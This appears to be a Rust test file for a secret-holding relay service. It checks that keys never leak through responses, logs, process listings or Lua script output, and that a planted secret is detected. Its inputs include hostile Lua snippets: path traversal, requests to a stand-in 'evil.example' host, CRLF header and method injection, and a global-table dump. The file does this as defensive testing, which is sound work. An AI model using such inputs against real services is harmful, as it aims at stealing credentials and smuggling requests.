//! Secrets: used, and nowhere to be found.

use std::process::Command;

use ring::hmac;

use crate::client::hex;
use crate::place::{Place, SECRET, SIGNING, bytes_below};

/// Text of any kind in which no secret may be.
#[derive(Default)]
struct All(Vec<u8>);

impl All {
    fn add(&mut self, bytes: impl AsRef<[u8]>) {
        self.0.extend_from_slice(bytes.as_ref());
        self.0.push(b'\n');
    }

    /// In any letters: as it is, in parts, escaped, in digits, in base64.
    fn check(&self) {
        let text = self.0.to_ascii_lowercase();
        for secret in [SECRET, SIGNING] {
            let json = serde_json::to_string(secret).unwrap();
            let json = json.trim_matches('"').to_owned();
            let url: String = secret.bytes().map(|byte| format!("%{byte:02x}")).collect();
            let html = secret.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
            let part = secret[4..16].to_owned();
            for form in
                [secret.to_owned(), part, json.clone(), json.replace('\\', "\\\\"), url, html, hex(secret.as_bytes())]
            {
                let form = form.to_ascii_lowercase().into_bytes();
                assert!(!text.windows(form.len()).any(|window| window == form), "{}", String::from_utf8_lossy(&form));
            }
        }
    }
}

#[test]
fn a_search_of_everything_finds_no_secret() {
    let place = Place::new("search");
    let ada = place.key("ada", &["--admin"]);
    let relay = place.serve(&[]);
    let mut all = All::default();
    for route in ["/fetch", "/pass", "/pieces"] {
        for path in ["/echo", "/forms", "/headers", "/pieces", "/gzip", "/redirect", "/broken", "/nonsense", "/nowhere"]
        {
            let answer = ada.post(relay.address, route, path);
            let text = answer.text();
            if matches!(path, "/echo" | "/forms" | "/pieces") {
                assert!(text.replace("][", "").contains("(redacted)"), "{route} {path}: {text}");
                assert!(answer.is_whole && answer.status == 200);
            }
            answer.headers.iter().for_each(|(name, value)| all.add(format!("{name}: {value}")));
            all.add(&answer.body);
        }
    }
    let headers = ada.post(relay.address, "/fetch", "/headers").json();
    assert_eq!(headers["headers"]["x-other"], "yes");
    assert_eq!(headers["headers"]["x-echo"], "Bearer (redacted)");
    assert_eq!(headers["headers"]["location"], "/?(redacted)");

    // What a script can do to get at it: everything that it can reach, in errors and output, too.
    for code in [
        "local seen, out = {}, {} local function walk(t, way) for k, v in pairs(t) do out[#out + 1] = way .. tostring(k) .. tostring(v) \
         if type(v) == 'table' and not seen[v] then seen[v] = true walk(v, way .. tostring(k) .. '.') end end end walk(_G, '') \
         return table.concat(out, '\\n')",
        "local r = host.vault.fetch('model', { path = '/echo' }) print(r.body) error(r.body)",
        "local r = host.vault.fetch('model', { path = '/forms' }) _home.kept = r.body",
        "local r = host.vault.fetch('model', { path = '/forms' }) kept = r.body _io.kept = r.body return kept",
        "return kept or _io.kept",
        "return host.vault.sign('model', 'text')",
        "return host.vault.fetch('tickets', { path = '/echo' })",
        "return host.vault.fetch('model', { path = '/../echo' })",
        "return host.vault.fetch('model', { path = '@evil.example/' })",
        "return host.vault.fetch('model', { path = '/echo', headers = { authorization = 'mine' } })",
        "return host.vault.fetch('model', { path = '/echo', headers = { Range = 'bytes=0-3' } })",
        "return host.vault.fetch('model', { path = '/echo', headers = { ['accept-encoding'] = 'gzip' } })",
        "return host.vault.fetch('model', { path = '/echo', headers = { x = 'a\\r\\nb: c' } })",
        "return host.vault.fetch('model', { url = 'http://evil.example/' })",
        "return host.vault.fetch('other', { path = '/echo' })",
        "return host.vault.fetch('model', { path = '/echo', method = 'GET /evil HTTP/1.1\\r\\n' })",
        "return tostring(host.vault) .. tostring(host.vault.fetch) .. string.format('%q', host.vault.sign('tickets', ''))",
    ] {
        let answer = ada.post(relay.address, "/run", code);
        all.add(&answer.body);
        all.add(ada.post(relay.address, "/plain", code).body);
    }
    let run = |code: &str| ada.post(relay.address, "/run", code).good();
    assert!(run("return kept or _io.kept or 'nothing'").contains("nothing"));
    assert!(run("_home.kept = 1").contains("read-only"));
    assert!(run("return host.vault.sign('model', 'text')").contains("is for an upstream, not for signatures"));
    assert!(run("return host.vault.fetch('tickets', { path = '/echo' })").contains("this secret is for signatures"));
    assert!(run("return host.vault.fetch('model', { path = '/../echo' })").contains("leads upwards"));
    assert!(
        run("return host.vault.fetch('model', { headers = { Range = 'x' } })").contains("may not set the header range")
    );
    assert!(
        run("return host.vault.fetch('model', { headers = { Authorization = 'x' } })")
            .contains("may not set the header authorization")
    );

    // A signature is that of another program, and only that is one.
    let expected = hex(hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, SIGNING.as_bytes()), b"text").as_ref());
    assert_eq!(ada.post(relay.address, "/plain", "return host.vault.sign('tickets', 'text')").good(), expected);
    let verify =
        |signature: &str| match run(&format!("return host.vault.verify('tickets', 'text', '{signature}')")).as_str() {
            "[true,true]" => true,
            "[true,false]" => false,
            other => panic!("{other}"),
        };
    assert!(verify(&expected));
    for wrong in ["", "00", &expected.to_uppercase(), &expected.replace('0', "1"), &hex(&[0; 32])] {
        assert!(!verify(wrong), "{wrong}");
    }

    all.add(ada.get(relay.address, "/relay/accounts").good());
    // What others see of the process.
    all.add(Command::new("ps").args(["-ef", "-ww"]).output().unwrap().stdout);
    all.add(std::fs::read(format!("/proc/{}/environ", relay.child.id())).unwrap());
    all.add(relay.end());
    for command in [&["list"][..], &["accounts"], &["serve", "--listen", "nowhere"]] {
        let output = place.run(command, "");
        all.add(output.stdout);
        all.add(output.stderr);
    }
    all.add(bytes_below(&place.folder));
    all.add(place.log());
    assert!(all.0.len() > 100_000 && place.log().contains("failed") && place.audit().contains("upstream_asked"));
    all.check();
}

#[test]
fn the_search_finds_a_secret_where_there_is_one() {
    for text in
        [SECRET.to_owned(), SIGNING.to_uppercase(), hex(SECRET.as_bytes()), serde_json::to_string(SECRET).unwrap()]
    {
        let mut all = All::default();
        all.add(format!("some {text} text"));
        assert!(std::panic::catch_unwind(|| all.check()).is_err());
    }
}
